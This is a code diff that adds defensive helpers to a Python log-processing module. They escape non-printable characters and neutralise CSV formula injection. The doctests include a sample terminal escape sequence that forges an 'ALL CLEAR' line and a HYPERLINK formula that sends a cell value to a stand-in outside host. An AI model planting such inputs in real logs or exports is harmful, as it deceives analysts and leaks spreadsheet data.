@@ -22,6 +22,7 @@ from __future__ import annotations
 import dataclasses
 import enum
 import ipaddress
+import re
 from collections.abc import Iterable, Mapping
 from datetime import UTC, datetime
 from typing import Any
@@ -42,9 +43,11 @@ __all__ = [
     "decode_record",
     "encode_record",
     "format_timestamp",
+    "formula_safe",
     "infer_category",
     "json_default",
     "parse_timestamp",
+    "printable",
     "validate_frame",
 ]
 
@@ -482,3 +485,59 @@ def validate_frame(frame: Any, *, source: str = "frame") -> None:
     missing = [c for c in REQUIRED_FRAME_COLUMNS if c not in frame.columns]
     if missing:
         raise SchemaError(f"{source}: missing required column(s): {', '.join(missing)}")
+
+
+_SHORT_ESCAPES = {"\n": "\\n", "\r": "\\r", "\t": "\\t"}
+
+
+def printable(text: str, *, keep: str = "") -> str:
+    r"""``text`` safe to show a person: every non-printable character made visible.
+
+    Values in logs are written by whoever wrote the log. An escape sequence in a user name
+    could clear an analyst's screen and print a fake "ALL CLEAR"; a newline could forge a
+    line of output; a bidi override could reverse what is read. So every control, format
+    and separator character is shown as an escape (``\x1b``, ``\n``, ``\u202e``), except
+    those in ``keep`` (a renderer's own line breaks). This is the one such function: the
+    command line, ``query`` tables and the text report all use it.
+
+    >>> print(printable("eve\x1b[2J\nALL CLEAR"))
+    eve\x1b[2J\nALL CLEAR
+    >>> print(printable("ok\tfine", keep="\t"))
+    ok	fine
+    """
+    if text.isprintable():
+        return text
+    out = []
+    for ch in text:
+        if ch.isprintable() or ch in keep:
+            out.append(ch)
+        elif ch in _SHORT_ESCAPES:
+            out.append(_SHORT_ESCAPES[ch])
+        elif ord(ch) < 0x100:
+            out.append(f"\\x{ord(ch):02x}")
+        else:
+            out.append(f"\\u{ord(ch):04x}" if ord(ch) < 0x10000 else f"\\U{ord(ch):08x}")
+    return "".join(out)
+
+
+#: A cell a spreadsheet would run as a formula (OWASP, CSV injection): it starts with one of
+#: these and is not a plain number.
+FORMULA_START = re.compile(r"^[=+\-@\t\r]")
+PLAIN_NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")
+
+
+def formula_safe(value: str) -> str:
+    """A CSV cell a spreadsheet shows as text instead of running it (OWASP's advice).
+
+    A value from a log that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
+    return gets a leading ``'``; plain numbers (``-5``, ``+1.5e3``) are left alone. CSV
+    writers that hand files to people apply it unless told not to (``--raw-csv``).
+
+    >>> print(formula_safe('=HYPERLINK("http://x.example/?"&A1,"click")'))
+    '=HYPERLINK("http://x.example/?"&A1,"click")
+    >>> formula_safe("-12.5"), formula_safe("alice")
+    ('-12.5', 'alice')
+    """
+    if value and FORMULA_START.match(value) and not PLAIN_NUMBER.match(value):
+        return "'" + value
+    return value
